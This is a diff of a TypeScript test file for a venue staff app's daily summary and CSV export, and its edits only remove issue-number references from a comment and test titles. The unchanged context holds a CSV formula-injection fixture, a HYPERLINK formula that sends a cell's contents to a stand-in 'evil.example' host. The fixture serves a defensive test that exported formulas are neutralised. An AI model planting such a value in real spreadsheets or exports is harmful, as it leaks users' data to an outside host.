@@ -10,7 +10,7 @@ import { errorOf } from "../../test/eat-in";
 import { demoStaffToken } from "../staff/staff-auth";
 import { csvCell, dayCsv } from "./day-csv";
 
-// Issue 19 point 6: the day's orders and money, in the venue's zone (Europe/Kyiv: UTC+2 in winter, +3
+// The day's orders and money, in the venue's zone (Europe/Kyiv: UTC+2 in winter, +3
 // from the last Sunday of March), and its CSV.
 const evilWaiter = '=HYPERLINK("http://evil.example/?d="&A1,"x")';
 let t: Awaited<ReturnType<typeof createTestApp>>;
@@ -181,7 +181,7 @@ async function dayOf(date?: string, headers = manager) {
   return staffDayCall.response.parse(res.json()).data;
 }
 
-describe("the day view (issue 19 point 6)", () => {
+describe("the day view", () => {
   it("sums the confirmed money per method, tips per waiter, refunds and the orders of the venue's day", async () => {
     const day = await dayOf("2031-03-04");
     expect(day.date).toBe("2031-03-04");
@@ -276,7 +276,7 @@ function formulaCells(rows: string[]): string[] {
     .filter((piece) => /^[=+\-@\t\r]/.test(piece) && !/^-?\d+(\.\d+)?$/.test(piece));
 }
 
-describe("the day's CSV (issue 19 point 6, DESIGN.md §6)", () => {
+describe("the day's CSV (DESIGN.md §6)", () => {
   const csvUrl = "/api/staff/venues/fx-venue/day.csv?date=2031-03-04";
 
   it("lists the same payments, RFC 4180 quoted, UTF-8 with a BOM, formulas neutralised", async () => {
